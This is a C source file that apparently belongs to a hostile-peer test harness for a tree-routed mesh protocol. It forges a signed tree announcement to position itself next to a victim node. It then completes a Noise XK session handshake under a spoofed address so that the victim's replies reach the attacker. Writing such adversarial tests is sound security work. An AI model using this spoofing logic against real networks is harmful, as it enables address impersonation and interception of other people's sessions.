/*
 * evil_shake.c -- a whole session handshake with the victim, by the hostile
 * peer's own key: under an address that is not its own (fault 1), which so that the
 * answer comes back here is said to stand below us; or under its own.
 */
#include <poll.h>
#include <string.h>
#include <sys/socket.h>

#include "evil.h"
#include "frame.h"
#include "fsp.h"
#include "ident.h"

static uint8_t		other[NADDR_LEN];	/* ff:ff... is nobody's */
static struct noise	hs;
static struct noise_keys keys;

/* We and the victim are alone in the tree: the smaller address is its root. */
static int
is_root(void)
{
	return memcmp(evil.me.addr, evil.addr, NADDR_LEN) < 0;
}

/* Below the victim, or above it: where we may well stand. */
size_t
below(uint8_t *out)
{
	struct tree_ann a = { .path.at.n = is_root() ? 1 : 2 };

	memcpy(a.decl.addr, evil.me.addr, NADDR_LEN);
	a.decl.seq = 1;
	a.decl.ts = (uint64_t)time(NULL);
	memcpy(a.path.at.addr[0], evil.me.addr, NADDR_LEN);
	memcpy(a.path.at.addr[1], evil.addr, NADDR_LEN);
	memcpy(a.decl.parent, a.path.at.addr[!is_root()], NADDR_LEN);
	sign(&a);
	return put_tree(out, &a);
}

static size_t
as_other(uint8_t *out, const struct fsp_shake *s)
{
	size_t	n = dgram(out, 64, 1280, other, evil.addr);
	ssize_t m = fsp_shake_encode(s, out + n, FRAME_MAX - n);

	if (m < 0)
		die("no session handshake");
	return n + (size_t)m;
}

static size_t
setup(uint8_t *out)
{
	uint8_t		 e[SEC_LEN], m[FSP_MSG1], at[3][NADDR_LEN], to[2][NADDR_LEN];
	struct fsp_shake s = { .phase = FSP_SETUP, .noise = m, .noise_len = FSP_MSG1 };

	curve_random(e);
	if (noise_xk_write1(&hs, evil.pub, e, m) != REFUSE_NONE)
		die("no session message 1");
	memcpy(at[0], other, NADDR_LEN);
	memcpy(at[1], evil.me.addr, NADDR_LEN);
	memcpy(at[2], evil.addr, NADDR_LEN);
	memcpy(to[0], evil.addr, NADDR_LEN);
	memcpy(to[1], evil.me.addr, NADDR_LEN);
	s.src = (struct fsp_coords){ is_root() ? 2 : 3, at[0] };
	s.dst = (struct fsp_coords){ is_root() ? 2 : 1, to[0] };
	if (memcmp(other, evil.me.addr, NADDR_LEN) == 0)
		s.src.count = s.dst.count = 1;
	return as_other(out, &s);
}

static size_t
msg3(uint8_t *out)
{
	uint8_t		  m[FSP_MSG3];
	struct fsp_shake  s = { .phase = FSP_MSG3_PHASE, .noise = m,
	    .noise_len = FSP_MSG3 };

	if (noise_xk_write3(&hs, &evil.me, m, &keys) != REFUSE_NONE)
		die("no session message 3");
	return as_other(out, &s);
}

/* Is this frame of n bytes the victim's Ack to this handshake? Then it is read. */
static int
is_ack(uint8_t *in, size_t n)
{
	struct fsp_dgram d;
	struct fsp_shake s;
	size_t		 len;
	uint8_t		*msg = opened(in, n, &len), epoch[EPOCH_LEN];

	if (msg == NULL || len < FSP_DGRAM || msg[0] != LINK_MSG_DATAGRAM ||
	    fsp_dgram_decode(msg, len, &d) == -1 ||
	    memcmp(d.dst, other, NADDR_LEN) != 0 ||
	    fsp_shake_decode(msg + FSP_DGRAM, len - FSP_DGRAM, &s) == -1 ||
	    s.phase != FSP_ACK)
		return 0;
	return noise_xk_read2(&hs, s.noise, epoch) == REFUSE_NONE;
}

static int
heard_ack(double until)
{
	struct pollfd	p = { .fd = evil.fd, .events = POLLIN };
	uint8_t		in[2048];
	ssize_t		n;

	while (now() < until) {
		if (poll(&p, 1, 100) < 1)
			continue;
		n = recv(evil.fd, in, sizeof(in), 0);
		if (n > 0 && is_ack(in, (size_t)n))
			return 1;
	}
	return 0;
}

static unsigned
exchange(double until)
{
	send_one(setup);
	if (!heard_ack(until))
		return 1;
	send_one(msg3);
	return 3;
}

unsigned
shake(double seconds)
{
	double		until = now() + seconds;

	memset(other, 0xff, sizeof(other));
	send_one(below);
	/* The victim has to find its own place first; nothing is an answer yet. */
	hs.turn = NOISE_NONE;
	heard_ack(now() + 1.5);
	return exchange(until);
}

unsigned
talk(double seconds)
{
	unsigned n;

	memcpy(other, evil.me.addr, sizeof(other));
	n = exchange(now() + seconds);
	if (n == 3)
		inner_begin(&keys);
	return n;
}
